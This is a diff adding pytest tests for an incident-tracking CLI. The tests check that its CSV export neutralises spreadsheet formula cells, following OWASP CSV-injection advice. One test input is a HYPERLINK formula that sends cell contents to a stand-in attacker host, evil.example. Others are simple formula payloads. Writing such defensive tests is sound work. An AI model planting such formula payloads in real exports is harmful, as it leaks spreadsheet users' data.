@@ -54,6 +54,29 @@ def test_export_streams_jsonl_and_csv_that_match_the_log(cli, incident, store, t
     assert [int(r["seq"]) for r in rows] == list(range(1, len(lines) + 1))
 
 
+@pytest.mark.parametrize("name", ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")", "+1+2", "-2+3",
+                                  "@SUM(A1)"])
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(cli, tmp_path, name):
+    """OWASP's CSV injection advice: a cell starting with = + - @, tab or CR gets a leading '."""
+    assert cli(*VIRAL_START).exit_code == 0
+    assert cli("assign", "--as", "alice", "--", INCIDENT, "social_media", name).exit_code == 0
+    assert cli("note", INCIDENT, "ok", "--as", name).exit_code == 0
+    out = tmp_path / "events.csv"
+    assert cli("export", INCIDENT, "--format", "csv", "-o", str(out)).exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
+    assert rows[-1]["actor"] == "'" + name
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+    jsonl = [json.loads(line) for line in cli("export", INCIDENT).stdout.splitlines()]
+    assert jsonl[-1]["actor"] == name  # JSON Lines stay exact
+    assert jsonl[-2]["data"]["person"] == name
+
+
+def test_csv_cells_starting_with_a_tab_or_carriage_return_are_neutralised_too():
+    from engine.report import csv_cell
+
+    assert [csv_cell(t) for t in ("\tx", "\rx", "x=1", "", "{\"a\":1}")] == ["'\tx", "'\rx", "x=1", "", "{\"a\":1}"]
+
+
 def test_export_of_an_unknown_incident_creates_no_file(cli, tmp_path):
     out = tmp_path / "events.jsonl"
     result = cli("export", "INC-nope", "-o", str(out))
